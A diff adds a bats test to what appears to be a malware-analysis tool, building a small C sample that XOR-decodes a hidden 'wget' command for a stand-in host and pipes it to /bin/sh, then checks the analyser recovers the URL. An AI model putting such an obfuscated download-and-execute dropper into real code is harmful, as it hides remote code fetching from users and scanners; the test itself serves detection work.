@@ -89,6 +89,29 @@ unpacks() {   # NAME...: of both widths
 	jq -e 'all(.unpack.calls[].args[]; test("locale|/etc/passwd") | not)' out/static.json
 }
 
+@test "what a sample makes or hands to a shell is described as it is, and what it tells counts" {
+	cat >hands.c <<'EOF'
+#include <stdio.h>
+
+int main(void)
+{
+	FILE *f = popen("/bin/sh", "w");
+
+	setvbuf(f, NULL, _IONBF, 0);   /* in no memory as a whole */
+	for (const char *p = TEXT; *p; p++)
+		fputc(*p ^ 0x2a, f);
+	return pclose(f) != 0;
+}
+EOF
+	text=$(printf 'wget -q http://update.muss-test.org/get.sh' | perl -0pe 's/(.)/sprintf "\\x%02x", ord($1) ^ 0x2a/ge')
+	cc -O1 -w -DTEXT="\"$text\"" -o hands hands.c
+	run ! grep -q muss-test hands
+	analyse "$PWD/hands"
+	jq -e '[.unpack.drops[].kind] | contains(["pipe", "arguments"])' out/static.json
+	jq -e '[.dropped[].sha256] as $d | all(.unpack.drops[] | select(.member); .sha256 | IN($d[]))' out/static.json
+	jq -e 'any(.indicators[]; .kind == "url" and .value == "http://update.muss-test.org/get.sh" and (.from | startswith("dropped.strings:")))' out/static.json
+}
+
 @test "a program run from a file without a name is found in memory and as a file" {
 	for width in 64 32; do
 		analyse "$PACKED/memfd-$width"
